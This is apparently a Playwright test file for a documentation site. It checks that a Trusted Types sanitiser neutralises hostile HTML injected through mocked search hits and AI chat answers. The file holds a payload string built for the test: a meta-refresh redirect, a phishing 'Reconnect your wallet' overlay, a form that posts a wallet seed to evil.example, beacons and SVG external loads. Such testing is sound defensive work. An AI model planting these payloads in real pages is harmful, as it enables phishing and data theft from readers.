/**
 * Hostile content from the hosted services: Algolia hits and an Ask AI answer carrying HTML that
 * tries to run script, redirect (meta refresh, base), restyle the page, draw an overlay, post a
 * form and load from elsewhere (a beacon, SVG filters and paints). The Trusted Types default policy
 * (src/lib/trustedTypes.ts) must make all of it inert, with the CSP of static/_headers and without it.
 *
 * What is checked is what a reader would meet, not the attack's own ids (the sanitiser renames
 * ids, so a check by id never ran): any element a hit or an answer added that sits outside its box,
 * covers a quarter of the viewport or is positioned over the page; any element that loads, posts,
 * redirects or runs, recorded as it enters the live document; any request to the attacker's hosts.
 * The last test shows that this check fails when the sanitiser lets the same HTML through.
 */
import type {Page} from '@playwright/test';
import {test, expect} from '../../support/fixtures';
import {waitForHydration} from '../../support/page';
import {CORS, preflight, routeAskAiChat, sse} from './ask-ai-routes';

const SEARCH_HOSTS = /^https:\/\/testapp123(-dsn\.algolia\.net|-\d\.algolianet\.com)\//i;
const BEACON = 'https://www.googletagmanager.com/beacon.gif';
const OVERLAY_TEXT = 'Reconnect your wallet';

const HOSTILE = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<style>.navbar{display:none!important}body{background:red!important}</style>',
  `<div id="overlay-style" style="position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff">${OVERLAY_TEXT}</div>`,
  `<div id="overlay-class" class="DocSearch-Container">${OVERLAY_TEXT} now</div>`,
  '<form id="hostile-form" action="https://evil.example/steal" method="post"><input name="seed" value="x"><button id="hostile-submit">Go</button></form>',
  `<img id="beacon" src="${BEACON}?leak=1">`,
  '<img src="x" onerror="window.__hostileRan = true">',
  '<svg width="10" height="10"><filter id="f"><feImage href="https://evil.example/feimage.png"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>',
  '<svg width="10" height="10"><rect width="10" height="10" fill="url(https://evil.example/paint.svg#p)"/></svg>',
  '<svg width="10" height="10"><pattern id="p" href="https://evil.example/pattern.svg#q"/></svg>',
].join('');

function hostileHit(origin: string) {
  const url = `${origin}/building-on-etherlink/websockets`; // on the site: hits elsewhere are not offered
  const title = `Safe title ${HOSTILE}`;
  return {
    objectID: 'hostile',
    url,
    url_without_anchor: url,
    anchor: null,
    type: 'content',
    content: HOSTILE,
    hierarchy: {lvl0: `Developing ${HOSTILE}`, lvl1: title, lvl2: null, lvl3: null, lvl4: null, lvl5: null, lvl6: null},
    _highlightResult: {hierarchy: {lvl0: {value: `Developing ${HOSTILE}`}, lvl1: {value: title}}, content: {value: HOSTILE}},
    _snippetResult: {hierarchy: {lvl1: {value: title}}, content: {value: `Safe snippet ${HOSTILE}`}},
  };
}

/**
 * DOMPurify parses a hit in an inert document that shares the page's CSP, before it drops what it
 * drops: Chromium reports the <base> and the inline handlers it meets there, and runs none of them.
 */
function allowParseReports(allowCspViolation: (pattern: RegExp) => void) {
  allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
  allowCspViolation(/^script-src-attr blocked inline/);
}

/** Records every request that leaves for a host the attack wants. */
function watchLeaks(page: Page): string[] {
  const leaks: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (url.startsWith(BEACON) || url.includes('evil.example')) leaks.push(url);
  });
  return leaks;
}

/**
 * Records, from the page's start, every element that could load, post, redirect or restyle as it
 * enters the live document: such an element acts as soon as it is there, whatever removes it later.
 */
async function recordDangerousElements(page: Page) {
  await page.addInitScript(() => {
    const DANGEROUS = 'meta[http-equiv], base, form, img, image, feImage, iframe, object, embed, link, [onerror], [onload]';
    const seen: string[] = [];
    (window as unknown as {__dangerous: string[]}).__dangerous = seen;
    const check = (node: Node) => {
      if (!(node instanceof Element)) return;
      for (const element of [node, ...Array.from(node.querySelectorAll(DANGEROUS))]) {
        // The site's own images and links (logo, icons, stylesheets) are in the page before any hit.
        if (element.matches(DANGEROUS) && element.closest('.DocSearch-Dropdown, .DocSearch-Hits, .DocSearch-AskAiScreen')) seen.push(element.outerHTML.slice(0, 120));
      }
    };
    new MutationObserver((records) => records.forEach((record) => record.addedNodes.forEach(check))).observe(document, {childList: true, subtree: true});
  });
}

async function routeServices(page: Page, answer: string) {
  await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
  await page.route(SEARCH_HOSTS, async (route) => {
    if (await preflight(route)) return;
    const body = JSON.parse(route.request().postData() ?? '{}') as {requests: {query: string}[]};
    const query = body.requests[0]?.query ?? '';
    await route.fulfill({
      status: 200,
      contentType: 'application/json',
      headers: CORS,
      body: JSON.stringify({results: [{hits: [hostileHit(new URL(page.url()).origin)], nbHits: 1, page: 0, nbPages: 1, hitsPerPage: 20, exhaustiveNbHits: true, query, params: '', index: 'etherlink-test', processingTimeMS: 1}]}),
    });
  });
  await routeAskAiChat(page, answer);
}

/** What a reader would meet of the hostile HTML: each finding says what and where. */
async function readerVisibleAttacks(page: Page): Promise<string[]> {
  return page.evaluate((overlayText) => {
    const found: string[] = [];
    const viewport = window.innerWidth * window.innerHeight;
    // The boxes hostile content renders into: a hit's section, title, path and snippet, and an answer.
    const boxes = Array.from(document.querySelectorAll('.DocSearch-Hit-source, .DocSearch-Hit-title, .DocSearch-Hit-path, .DocSearch-Hit-content-wrapper, .DocSearch-Markdown-Content'));
    for (const box of boxes) {
      const outer = box.getBoundingClientRect();
      for (const element of Array.from(box.querySelectorAll('*'))) {
        const style = getComputedStyle(element);
        const rect = element.getBoundingClientRect();
        const where = `${element.tagName.toLowerCase()} in ${box.className}`;
        if (style.position === 'fixed' || style.position === 'absolute' || style.position === 'sticky') found.push(`${where} is positioned ${style.position}`);
        if (rect.width * rect.height > viewport / 4) found.push(`${where} covers ${Math.round((100 * rect.width * rect.height) / viewport)}% of the viewport`);
        const outside = rect.width > 0 && rect.height > 0 && (rect.left < outer.left - 1 || rect.top < outer.top - 1 || rect.right > outer.right + 1 || rect.bottom > outer.bottom + 1);
        if (outside && style.overflow === 'visible' && box.contains(element) && getComputedStyle(box).overflow === 'visible') found.push(`${where} is drawn outside its box`);
      }
    }
    // The overlay's text, wherever it landed: only inside those boxes, in the normal flow.
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!node.textContent?.includes(overlayText)) continue;
      const parent = node.parentElement!;
      if (!boxes.some((box) => box.contains(parent))) found.push(`"${overlayText}" shown outside a hit or an answer, in ${parent.tagName.toLowerCase()}.${parent.className}`);
    }
    // Anything outside the dialog drawn over the page that the site did not draw before.
    for (const element of Array.from(document.body.querySelectorAll('body > *:not(#__docusaurus):not(.DocSearch-Container)'))) {
      const style = getComputedStyle(element);
      if (style.position === 'fixed' && element.getBoundingClientRect().width * element.getBoundingClientRect().height > viewport / 4) found.push(`${element.tagName.toLowerCase()} drawn over the page outside the dialog`);
    }
    if (getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)') found.push('the page background turned red');
    if (getComputedStyle(document.querySelector('.navbar')!).display === 'none') found.push('the navbar is hidden');
    if ((window as unknown as {__hostileRan?: boolean}).__hostileRan) found.push('an event handler in the hit ran');
    return found;
  }, OVERLAY_TEXT);
}

/** Nothing the hostile HTML asked for happened. */
async function expectInert(page: Page, leaks: string[], start: string) {
  expect(await readerVisibleAttacks(page)).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as {__dangerous: string[]}).__dangerous)).toEqual([]);
  expect(page.url()).toBe(start);
  expect(leaks).toEqual([]);
}

async function searchHostile(page: Page, origin = '') {
  await page.goto(`${origin}/`);
  await waitForHydration(page);
  await page.keyboard.press('ControlOrMeta+k');
  await page.locator('.DocSearch-Input').fill('websockets');
  await expect(page.locator('.DocSearch-Hit', {hasText: 'Safe title'}).first()).toBeVisible();
}

test.describe('hostile content from the hosted services', () => {
  test.beforeEach(async ({page}) => {
    await recordDangerousElements(page);
  });

  test('hostile search hits change nothing and go nowhere', async ({page, allowCspViolation}) => {
    allowParseReports(allowCspViolation);
    const leaks = watchLeaks(page);
    await routeServices(page, sse([]));
    await searchHostile(page);
    await expectInert(page, leaks, page.url());
  });

  test('hostile search hits stay inert on a host that ignores _headers (no CSP header at all)', async ({page}) => {
    // scripts/serve.mjs has top-level await (its command line): imported, not required.
    type Host = {url: string; close: () => Promise<void>};
    const {startHost} = (await import('../../../scripts/serve.mjs')) as {startHost: (o: object) => Promise<Host>};
    const server = await startHost({root: process.env.E2E_HOSTED_BUILD_DIR ?? 'build-hosted', headers: false});
    try {
      const leaks = watchLeaks(page);
      await routeServices(page, sse([]));
      const response = await page.request.get(`${server.url}/`);
      expect(response.headers()['content-security-policy']).toBeUndefined();
      await searchHostile(page, server.url);
      await expectInert(page, leaks, `${server.url}/`);
    } finally {
      await server.close();
    }
  });

  test('a hostile Ask AI answer changes nothing and goes nowhere', async ({page, allowCspViolation}) => {
    allowParseReports(allowCspViolation);
    const leaks = watchLeaks(page);
    await routeServices(
      page,
      sse([
        {type: 'start', messageId: 'hostile-answer'},
        {type: 'start-step'},
        {type: 'text-start', id: 't'},
        {type: 'text-delta', id: 't', delta: `Here is the answer.\n\n${HOSTILE}\n\nThe end.`},
        {type: 'text-end', id: 't'},
        {type: 'finish-step'},
        {type: 'finish'},
      ]),
    );
    await searchHostile(page);
    await page.locator('.DocSearch-Input').fill('how do I connect');
    await page.locator('.DocSearch-Hit:has(.DocSearch-Hit--AskAI)').click();
    await expect(page.getByText('The end.')).toBeVisible();
    await expectInert(page, leaks, page.url());
  });

  test('the check sees an overlay when the sanitiser lets it through', async ({page, allowCspViolation}) => {
    allowParseReports(allowCspViolation);
    await routeServices(page, sse([]));
    await searchHostile(page);
    expect(await readerVisibleAttacks(page)).toEqual([]);
    // What a sanitiser that kept style attributes and elements would render in the hit's title
    // (built node by node: the page's Trusted Types refuse the HTML itself, as they should).
    await page.evaluate((text) => {
      const overlay = document.createElement('div');
      overlay.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff');
      overlay.textContent = text;
      const restyle = document.createElement('style');
      restyle.textContent = '.navbar{display:none!important}';
      document.querySelector('.DocSearch-Hit-title')!.append(overlay, restyle);
    }, OVERLAY_TEXT);
    const found = await readerVisibleAttacks(page);
    expect(found).toContainEqual(expect.stringMatching(/positioned fixed/));
    expect(found).toContain('the navbar is hidden');
  });

  test('the default policy, in the browser: nothing that loads, and deep HTML as text', async ({page, allowCspViolation}) => {
    allowParseReports(allowCspViolation);
    await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
    await page.goto('/');
    const clean = (html: string) => page.evaluate((h) => String((window as unknown as {trustedTypes: {defaultPolicy: {createHTML: (s: string) => unknown}}}).trustedTypes.defaultPolicy.createHTML(h)), html);
    expect(await clean('<svg><filter id="f"><feImage href="https://evil.example/a.png"/></filter></svg>')).not.toMatch(/feimage|evil/i);
    expect(await clean('<svg><rect fill="url(https://evil.example/p.svg#p)" stroke="red"/></svg>')).toBe('<svg><rect stroke="red"></rect></svg>');
    expect(await clean('<svg><rect fill="u\\72 l(https://evil.example/p.svg#p)"/></svg>')).toBe('<svg><rect></rect></svg>');
    expect(await clean('<svg><pattern href="https://evil.example/q.svg#q"/><linearGradient href="#h"/></svg>')).toBe('<svg><pattern></pattern><linearGradient href="#h"></linearGradient></svg>');
    expect(await clean('<div class="DocSearch-Container navbar">x</div><pre><code class="language-bash">ls</code></pre>')).toBe('<div>x</div><pre><code class="language-bash">ls</code></pre>');
    expect(await clean('<div class="DocSearch-CodeSnippet"><button class="DocSearch-CodeSnippet-CopyButton">Copy</button></div>')).toBe(
      '<div class="DocSearch-CodeSnippet"><button class="DocSearch-CodeSnippet-CopyButton">Copy</button></div>',
    );
    // 20,000 nested <div>s: parsing them alone took 2.3 s; they come back as their text, at once.
    const deep = await page.evaluate(() => {
      const html = `${'<div>'.repeat(20_000)}deep text${'</div>'.repeat(20_000)}`;
      const start = performance.now();
      const out = String((window as unknown as {trustedTypes: {defaultPolicy: {createHTML: (s: string) => unknown}}}).trustedTypes.defaultPolicy.createHTML(html));
      return {ms: performance.now() - start, hasTags: out.includes('<'), text: out.trim()};
    });
    expect(deep).toMatchObject({hasTags: false, text: 'deep text'});
    expect(deep.ms).toBeLessThan(100);
  });

  test('a Trusted Types violation is reported to the suite', async ({page, problems}) => {
    await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
    await page.goto('/');
    const created = await page.evaluate(() => {
      try {
        (window as unknown as {trustedTypes: {createPolicy: (n: string, r: object) => unknown}}).trustedTypes.createPolicy('rogue', {});
        return true;
      } catch {
        return false;
      }
    });
    expect(created).toBe(false);
    await expect.poll(() => problems.csp.some((report) => /trusted-types/.test(report))).toBe(true);
    // Seen, so the fixture's own check (which would fail this test) is satisfied.
    problems.csp.length = 0;
    problems.console.length = 0;
  });
});
